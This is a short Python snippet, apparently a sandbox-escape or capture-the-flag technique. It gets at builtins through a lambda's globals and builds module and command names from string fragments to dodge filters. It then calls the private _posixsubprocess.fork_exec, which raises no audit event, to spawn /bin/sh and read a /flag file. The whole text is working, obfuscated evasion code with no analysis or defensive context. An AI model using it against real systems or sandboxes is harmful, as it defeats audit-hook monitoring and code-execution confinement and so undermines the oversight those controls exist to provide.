# technique: private C-level child-spawn helper raises no audit event; module and argv names assembled from pieces
im = (lambda: 1).__globals__["__bui" + "ltins__"]
im = im if isinstance(im, dict) else im.__dict__
ps = im["__im" + "port__"]("_po" + "sixsub" + "process")
o = im["__im" + "port__"]("o" + "s")
fe = getattr(ps, "fork_" + "ex" + "ec")
argv = [b"/bin/" + b"s" + b"h", b"-c", b"cat /fl" + b"ag"]
r, w = o.pipe()
# CPython 3.11 argument order
fe(
    argv, [argv[0]], True, (w,), None, None,
    -1, -1, -1, -1, -1, -1,
    r, w, False, False,
    -1, None, None, None, -1, None,
)
